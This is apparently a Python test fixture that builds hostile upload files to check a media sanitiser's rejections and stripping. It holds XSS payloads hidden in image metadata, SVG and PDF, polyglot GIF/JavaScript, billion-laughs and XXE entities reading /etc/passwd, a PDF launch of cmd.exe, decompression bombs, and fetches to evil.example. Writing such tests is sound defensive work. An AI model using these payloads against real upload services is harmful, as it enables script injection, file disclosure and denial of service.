"""Hostile files, made by code: what somebody might upload who wants to act in another's browser, to fill memory, or to learn what is elsewhere."""

import io
import struct
import zipfile
import zlib

from PIL import Image, ImageCms, PngImagePlugin

SCRIPT = b"<script>alert(document.domain)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(kind="PNG", size=(64, 48), mode="RGB", **options):
    """Return a picture with something in it."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width, height, pixels, *more):
    """Return a PNG put together by hand: what its head says need not be so."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(more) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def jpeg_with(marker, data):
    whole = picture("JPEG")
    return whole[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data + whole[2:]


def zipped(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def svg(inner, root=""):
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" {root}>{inner}<rect width="9" height="9"/></svg>'.encode()


def pdf(*objects, catalog=""):
    """Return a PDF of one empty page with more objects."""
    bodies = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n" + "".join(f"{place:010} 00000 n \n" for place in places)
    return out + f"{table}trailer<</Size {len(bodies) + 1}/Root 1 0 R>>\nstartxref\n{len(out)}\n%%EOF\n".encode()


def exif(**more):
    """Return EXIF that says where a photo was taken, and holds a script."""
    found = Image.Exif()
    found[0x010E] = SCRIPT.decode()
    found[0x9286] = SCRIPT
    gps = found.get_ifd(0x8825)
    gps.update({1: "S", 2: (0.0, 2.0, 24.0), 3: "E", 4: (109.0, 20.0, 18.0)})
    for tag, value in more.items():
        found[int(tag.strip("t"))] = value
    return found.tobytes()


def profile(padding=0):
    """Return a colour profile that is not sRGB, with something behind it."""
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes() + b"\0" * padding


def text_png(**texts):
    info = PngImagePlugin.PngInfo()
    for name, value in texts.items():
        info.add_itxt(name, value, zip=len(value) > 2000)
    return picture("PNG", pnginfo=info)


def gif_script():
    """Return the old GIF and script in one: `GIF89a` becomes a name, the rest a comment."""
    return b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)//"


def mp4(*boxes):
    return box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + b"".join(boxes)


def box(name, data, size=None):
    return struct.pack(">I", size if size is not None else len(data) + 8) + name + data


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 20}">'.encode() for n in range(9))
    + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'

# name: (bytes, part of the sentence)
REFUSED = {
    "page called photo.jpg": (b"<html>" + SCRIPT + b"</html>", "no picture"),
    "page that begins with a picture's letters": (b"GIF8<html>" + SCRIPT, "no picture"),
    "test of virus scanners": (EICAR, "no picture"),
    "archive": (zipped(a="a"), "no picture"),
    "program": (b"MZ\x90\0\3\0\0\0", "no picture"),
    "nothing": (b"", "empty"),
    "script with a mark of UTF-16": ("<svg/>".encode("utf-16"), "no picture"),
    "PNG of 40,000 pixels a side": (png(40_000, 40_000, b"\0" * 100), "too many pixels"),
    "PNG of 20,000 × 20,000": (png(20_000, 20_000, b"\0" * 100), "too many pixels"),
    "PNG that unpacks to more than it says": (png(8, 8, b"\0" * 3), "damaged"),
    "PNG with a broken sum": (picture()[:-5] + b"\0\0\0\0\0", "damaged"),
    "PNG cut off": (picture(size=(300, 300))[:-300], "damaged"),
    "JPEG cut off": (picture("JPEG", (300, 300))[:-400], "damaged"),
    "WebP cut off": (picture("WEBP", (300, 300))[:-30], "damaged"),
    "GIF cut off": (picture("GIF", (300, 300))[:-300], "damaged"),
    "PNG with a piece that must be understood": (png(1, 1, b"\0\0", chunk(b"EViL", SCRIPT)), "damaged"),
    "PNG with a bomb as profile": (png(1, 1, b"\0\0", chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 64 * 2**20))), "damaged"),
    "AVIF that says it is huge": (
        picture("AVIF").replace(struct.pack(">II", 64, 48), struct.pack(">II", 50_000, 50_000)),
        "damaged|pixels",
    ),
    "AVIF that is none": (box(b"ftyp", b"avif\0\0\0\0avifmif1") + b"\0" * 200, "damaged"),
    "billion laughs": (LAUGHS, "could act or fetch|not well-formed"),
    "drawing that is no XML": (b"<svg >" + SCRIPT, "not well-formed"),
    "drawing with a foreign picture": (svg('<image href="http://evil.example/x.png"/>'), "image"),
    "drawing with an animated address": (svg('<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'), "animate"),
    "drawing with a set address": (svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'), "set"),
    "drawing of a million points": (svg("<path d='M0 0" + " 1 1" * 300_000 + "'/>"), "1 MB"),
    "PDF with a script": (pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "could act"),
    "PDF with a script in another object": (pdf("<</S/JavaScript/JS 5 0 R>>", "(app.alert(1))", catalog="/OpenAction 4 0 R"), "could act"),
    "PDF with a hidden name": (pdf(catalog="/OpenAction<</S/#4AavaScript/#4AS(app.alert(1))>>"), "could act"),
    "PDF that starts a program": (pdf("<</Type/Action/S/Launch/F(cmd.exe)>>", catalog="/OpenAction 4 0 R"), "could act"),
    "PDF with a file inside": (pdf(catalog="/Names<</EmbeddedFiles<</Names[]>>>>"), "could act"),
    "PDF with a form that sends": (pdf("<</S/SubmitForm/F(http://evil.example)>>"), "could act"),
    "PDF with nothing in it": (b"%PDF-1.7\n" + SCRIPT, "damaged"),
    "captions with no words": (b"WEBVTT\n\nNOTE x\n", "no words"),
    "captions with a wrong time": (b"WEBVTT\n\n1 --> 2\nx\n", "time"),
    "playlist": (b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n", "no picture"),
    "list of files": (b"ffconcat version 1.0\nfile /etc/passwd\n", "no picture"),
}

# name: bytes. These are taken, and nothing of what is hostile in them stays.
HARMLESS = {
    "JPEG with a page in its comment": jpeg_with(0xFE, SCRIPT),
    "JPEG with a page in a piece of its own": jpeg_with(0xED, SCRIPT),
    "JPEG with a page in its head": jpeg_with(0xE0, b"JFIF\0" + SCRIPT),
    "JPEG with a page behind it": picture("JPEG") + SCRIPT,
    "JPEG with an archive behind it": picture("JPEG") + zipped(a=SCRIPT),
    "JPEG with EXIF": picture("JPEG", exif=exif()),
    "JPEG on its side, with EXIF": picture("JPEG", exif=exif(t274=6)),
    "JPEG with XMP": jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT),
    "PNG with texts": text_png(Comment=SCRIPT.decode()),
    "PNG with a page behind it": picture() + SCRIPT,
    "PNG with a bomb as text": text_png(Comment="\0" * 900_000 + SCRIPT.decode()),
    "PNG with EXIF": picture("PNG", exif=exif()),
    "WebP with EXIF and XMP": picture("WEBP", exif=exif(), xmp=SCRIPT),
    "WebP with a page behind it": picture("WEBP") + SCRIPT,
    "GIF with a comment": picture("GIF", comment=SCRIPT),
    "GIF with a page behind it": picture("GIF") + SCRIPT,
    "AVIF with EXIF": picture("AVIF", exif=exif()),
    "drawing with a script": svg(SCRIPT.decode()),
    "drawing with a handler": svg("<g onclick='alert(document.domain)'/>", root="onload='alert(document.domain)'"),
    "drawing with a page inside": svg(
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT.decode() + "</body></foreignObject>"
    ),
    "drawing with an address that acts": svg("<a href='javascript:alert(document.domain)'><text>x</text></a>"),
    "drawing that reads a file": OUTSIDE,
    "drawing with imported style": svg("<style>@import 'http://evil.example/x.css';rect{fill:url(http://evil.example)}</style>"),
    "PDF with an archive behind it": pdf() + zipped(a=SCRIPT),
    "captions with a page": b"WEBVTT\n\nSTYLE\n::cue{background:url(http://evil.example)}\n\n00:01.000 --> 00:02.000\n<v x>Halo</v> <script src='http://evil.example'></script>",
}
